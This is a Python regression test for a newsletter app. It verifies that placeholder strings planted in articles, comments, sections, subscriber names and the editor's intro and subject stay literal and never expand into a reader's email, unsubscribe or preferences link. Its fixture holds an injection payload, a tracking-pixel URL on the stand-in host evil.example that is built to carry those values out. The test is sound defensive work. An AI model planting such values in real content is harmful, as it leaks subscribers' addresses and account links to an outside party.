"""Issue 12, vulnerability 1: a subscriber's values are spliced only where the
template itself asked for them. Placeholders planted in every field an article,
a comment, a section, the desk's intro and subject, and a subscriber's name can
carry must come out as the plain text they are, in the HTML and the text part —
never as the reader's address, unsubscribe or preferences link."""

from __future__ import annotations

import base64
import email
import email.policy
from datetime import date
from email.message import EmailMessage

from sqlalchemy import select, update

from digest import demo
from digest.models import Article, Comment, Section, Subscriber
from digest.wiring import Services
from tests.support.common import FIXED_NOW
from tests.support.demo_data import load_demo_articles

PLANTED = "__UNSUB_URL__ __PREFS_URL__ __EMAIL__ __READER__ __CONFIRM_URL__"
EVIL = "https://evil.example/p.gif?u=__UNSUB_URL__&e=__EMAIL__&p=__PREFS_URL__&r=__READER__"


def parts(data: bytes) -> tuple[str, str]:
    message = email.message_from_bytes(data, policy=email.policy.default)
    assert isinstance(message, EmailMessage)
    html = message.get_body(("html",))
    text = message.get_body(("plain",))
    assert html is not None and text is not None
    return str(html.get_content()), str(text.get_content())


def test_placeholders_in_data_never_become_a_readers_values(
    services: Services, fixed_date: date
) -> None:
    schedule = services.schedule("daily")
    load_demo_articles(services.factory, schedule, fixed_date)
    demo.add_subscribers(services.factory, 3, now=FIXED_NOW)
    with services.factory.begin() as session:
        session.execute(
            update(Article).values(
                title="Заголовок " + PLANTED,
                lead="Анонс " + PLANTED,
                url=EVIL,
                image_url=EVIL,
                image_caption="Подпись " + PLANTED,
            )
        )
        session.execute(update(Comment).values(author="Автор " + PLANTED, body=PLANTED))
        session.execute(update(Section).values(title="Раздел " + PLANTED))
        session.execute(update(Subscriber).values(name="Имя " + PLANTED))
        reader = session.scalar(select(Subscriber).order_by(Subscriber.id).limit(1))
        assert reader is not None
        address, key = reader.email, reader.token_key
    edition = services.editions.build(schedule, fixed_date)
    services.shaping.set_text(edition.id, "Вступление " + PLANTED, "Тема " + PLANTED, "anna")
    message = services.previews.preview(schedule, edition, address)
    html, text = parts(message.data)
    composer = services.tools.composer(schedule)
    unsub = composer.signer.unsubscribe.sign(key)
    prefs = composer.signer.preferences.sign(key)
    # The template's own slots, exactly: the footer's links and address, once each.
    assert html.count(unsub) == 1 and text.count(unsub) == 1
    assert html.count(prefs) == 1 and text.count(prefs) == 1
    assert html.count(address) == 1 and text.count(address) == 1
    # The planted words are shown as the text they are; the evil pixel asks for nothing.
    assert "evil.example/p.gif?u=__UNSUB_URL__&amp;e=__EMAIL__" in html
    assert "Заголовок __UNSUB_URL__" in html and "Заголовок __UNSUB_URL__" in text
    assert services.tools.placeholders.stem not in html + text  # every slot filled
    head = message.data.split(b"\r\n\r\n", 1)[0]
    assert unsub.encode() in head  # List-Unsubscribe: the header's own slot
    assert base64.b64encode(address.encode()) not in head
